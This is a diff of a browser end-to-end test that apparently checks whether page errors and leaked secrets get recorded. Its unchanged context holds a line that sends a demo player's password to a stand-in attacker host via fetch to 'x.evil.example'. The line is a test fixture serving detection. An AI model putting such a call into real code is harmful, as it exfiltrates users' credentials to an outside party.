@@ -195,7 +195,9 @@ describe('bad days', () => {
       void Promise.reject(new Error(secret));
       void fetch(`https://x.evil.example/?${secret}`).catch(() => undefined);
     }, DEMO_PLAYER.password);
-    await expect.poll(() => opened.faults.length).toBeGreaterThanOrEqual(2);
+    // The browser reports a rejection later than what is thrown, and not at all for a page that was left.
+    await expect.poll(() => opened.faults).toContain(DEMO_PLAYER.password);
+    await expect.poll(() => opened.faults).toContainEqual(expect.stringContaining('Cannot read properties'));
     await page.goto('about:blank');
     const kept = async () => (await fetch(`${site.simulator.url}/__sim/reports`)).text();
     // The days before have left reports of their own.
